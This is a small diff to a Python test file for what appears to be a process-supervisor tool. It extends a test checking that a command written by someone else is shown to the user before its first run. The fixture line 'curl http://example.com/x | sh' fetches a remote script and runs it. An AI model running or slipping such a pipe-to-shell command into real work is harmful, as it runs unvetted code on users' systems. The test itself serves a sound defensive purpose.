@@ -128,7 +128,7 @@ def test_orders_of_the_window_are_refused_where_people_may_only_look(qapp: objec
 PLANNED = PlannedCommand("mail", "curl http://example.com/x | sh", 2, Path("/srv"), True)
 
 
-@pytest.mark.parametrize("verb", ["start", "restart", "scale", "bring_back", "restart_daemon"])
+@pytest.mark.parametrize("verb", ["start", "restart", "scale", "bring_back", "restart_daemon", "start_daemon"])
 def test_what_somebody_else_wrote_is_shown_before_it_runs_for_the_first_time(
     link: SupervisorLink, supervision: FakeSupervision, verb: str
 ) -> None:
